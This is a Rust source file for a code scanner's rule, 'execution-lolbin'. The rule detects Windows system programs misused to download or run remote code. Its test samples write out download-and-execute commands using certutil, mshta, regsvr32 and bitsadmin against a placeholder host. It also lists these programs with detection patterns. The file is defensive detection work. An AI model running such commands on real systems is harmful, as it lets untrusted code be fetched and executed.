//! `execution-lolbin`: a program of the system is used to fetch or run what it is not made for.

use crate::finding::{Confidence, Severity};
use crate::scan::code::Unit;
use crate::scan::command;
use crate::scan::rule::{Check, Reporter, Rule, Sample};

/// The rule.
pub static RULE: Rule = Rule {
    id: "execution-lolbin",
    title: "Uses a program of the system to fetch or run code past its guards",
    severity: Severity::Error,
    confidence: Confidence::High,
    why: "These programs are trusted by the system, so that what they fetch and run is checked by nobody.",
    fix: "Use an ordinary client, and run nothing that was just fetched.",
    references: &["ATT&CK T1218", "ATT&CK T1105"],
    hits: &[
        Sample::File(
            "a.sh",
            "certutil -urlcache -split -f http://get.example.com/a.exe a.exe\n",
        ),
        Sample::File("a.ps1", "mshta http://get.example.com/a.hta\n"),
        Sample::File(
            "scripts/a.py",
            "import subprocess\nsubprocess.run(['regsvr32', '/s', '/n', '/u', '/i:http://get.example.com/a.sct', 'scrobj.dll'])\n",
        ),
        Sample::File(
            "scripts/a.py",
            "import os\nos.system('bitsadmin /transfer j http://get.example.com/a.exe c:\\\\a.exe')\n",
        ),
    ],
    misses: &[
        Sample::File("a.ps1", "certutil -hashfile a.exe SHA256\n"),
        Sample::File("a.sh", "rundll32 shell32.dll,Control_RunDLL\n"),
        Sample::File(
            "scripts/a.py",
            "import subprocess\nsubprocess.run(['msiexec', '/i', 'demo.msi'])\n",
        ),
        Sample::File(
            "scripts/a.js",
            "require('child_process').spawn('cscript', ['build.vbs']);\n",
        ),
    ],
    check: Check::Unit(check),
};

fn check(unit: &Unit, reporter: &mut Reporter<'_>) {
    for command in command::all(unit) {
        if is_misused(&command) {
            reporter.raise(command.span);
        }
    }
}

fn is_misused(command: &command::Command<'_>) -> bool {
    const KNOWN: &[&str] = &[
        "certutil",
        "mshta",
        "regsvr32",
        "rundll32",
        "bitsadmin",
        "msiexec",
        "installutil",
        "cscript",
        "wscript",
        "wmic",
        "forfiles",
        "cmstp",
        "odbcconf",
        "hh",
    ];
    if !command.is(KNOWN) {
        return false;
    }
    let line = command.small();
    let remote = line.contains("http://") || line.contains("https://") || line.contains("\\\\");
    match command.program().to_ascii_lowercase().as_str() {
        "certutil" => {
            line.contains("urlcache")
                || line.contains("-decode")
                || line.contains("/decode")
                || line.contains("verifyctl") && remote
        }
        "mshta" => remote || line.contains("javascript:") || line.contains("vbscript:"),
        "regsvr32" => line.contains("/i:http"),
        "rundll32" => line.contains("javascript:") || remote,
        "bitsadmin" => line.contains("/transfer") || line.contains("/addfile"),
        "wmic" => line.contains("process call create") || line.contains("/format:") && remote,
        "forfiles" => {
            line.contains("/c") && (line.contains("powershell") || line.contains("mshta"))
        }
        "msiexec" | "installutil" | "cscript" | "wscript" | "cmstp" | "odbcconf" | "hh" => {
            line.contains("http://") || line.contains("https://")
        }
        _ => false,
    }
}
